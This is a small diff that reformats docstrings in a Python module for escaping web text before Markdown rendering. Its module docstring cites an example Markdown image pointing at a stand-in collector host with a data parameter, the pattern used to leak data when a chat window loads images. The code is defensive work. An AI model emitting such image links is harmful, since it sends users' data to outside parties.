@@ -1,5 +1,4 @@
-"""
-Escape text from the web so that it stays plain text when a front end renders it as Markdown.
+"""Escape text from the web so that it stays plain text when a front end renders it as Markdown.
 
 A title, a snippet or an answer may contain ``![](https://collector.example/?d=...)``, which a chat window loads as soon
 as it shows it. Escaping changes as little as possible, because the same text is also shown unrendered: it inserts a
@@ -37,8 +36,7 @@ def escape_text(text: str) -> str:
 
 
 def escape_url(url: str) -> str:
-    """
-    Percent-encode the characters of *url* that RFC 3986 does not allow in a path, query or fragment.
+    """Percent-encode the characters of *url* that RFC 3986 does not allow in a path, query or fragment.
 
     Markdown gives some of them a meaning.
     """
